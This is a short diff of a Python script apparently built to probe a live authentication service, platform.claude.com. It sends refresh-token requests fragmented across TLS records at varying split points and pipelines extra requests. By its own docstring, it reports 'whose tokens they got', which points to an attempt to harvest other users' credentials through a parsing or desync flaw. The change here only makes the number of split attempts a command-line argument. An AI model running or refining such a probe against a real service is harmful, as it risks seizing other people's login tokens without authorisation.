@@ -1,10 +1,11 @@
-"""login_pieces.py: requests for tokens whose bytes come in two records, split at each place in turn, and one with two more
-behind it in the same record. It prints whose tokens they got, and the statuses of the last ones.
+"""login_pieces.py COUNT: COUNT requests for tokens whose bytes come in two records, split at each place in turn, and one with
+two more behind it in the same record. It prints whose tokens they got, and the statuses of the last ones.
 """
 import json
 import re
 import socket
 import ssl
+import sys
 
 HOST = "platform.claude.com"
 context = ssl.create_default_context()
@@ -45,8 +46,9 @@ with open("/tmp/got", encoding="ascii") as file:
     token = json.load(file)["refresh_token"]
 line = connect(HOST)
 whole = renew(token)
-for part in range(24):
-    at = 1 + part * (len(whole) - 2) // 23
+count = int(sys.argv[1])
+for part in range(count):
+    at = 1 + part * (len(whole) - 2) // (count - 1)
     whole = renew(token)
     line.sendall(whole[:at])
     line.sendall(whole[at:])
